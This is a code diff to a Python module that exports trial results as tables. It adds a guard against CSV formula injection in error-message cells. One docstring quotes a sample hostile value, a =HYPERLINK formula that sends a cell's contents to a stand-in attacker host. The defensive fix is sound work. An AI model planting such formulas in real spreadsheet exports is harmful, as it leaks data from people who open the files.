@@ -270,6 +270,16 @@ def document(study: Study, trial: Trial, figure: dict[str, Any] | None = None) -
             "predicted": trial.predicted}
 
 
+# the first characters that make a spreadsheet read a cell as a formula (OWASP's CSV injection list)
+FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
+
+
+def spreadsheet_safe(text: str) -> str:
+    """A launcher's text as a table cell no spreadsheet runs: one starting like a formula gets a leading quote
+    (an adversarial pass: an error `=HYPERLINK("http://evil.example/?"&A1,"click")` went into the CSV as it was)."""
+    return "'" + text if text.startswith(FORMULA_STARTS) else text
+
+
 def table_frame(repo: Repository, study: Study, benchmark: dict[str, bool] | None = None):
     """Every dispatched trial as a replay table (the replay backend's input format); a study run with
     benchmark-only settings (`benchmark`, active ones) gets a `benchmark_only` column naming them, so the
@@ -292,7 +302,7 @@ def table_frame(repo: Repository, study: Study, benchmark: dict[str, bool] | Non
         # a launcher's message with its control characters escaped: a table printed to a terminal (no -o)
         # would otherwise let an ESC sequence in a stderr tail act there
         row.update({"status": t.status, **{k: getattr(t, k) for k in METRICS},
-                    "error": terminal_safe(t.message) if t.message else t.message})
+                    "error": spreadsheet_safe(terminal_safe(t.message)) if t.message else t.message})
         rows.append(row)
     frame = pd.DataFrame(rows, columns=[*KNOBS, *perf, "status", *METRICS, "error"])
     # integer knobs with empty cells stay integers (found by a new-user pass: recompute_num_layers read `1.0`)
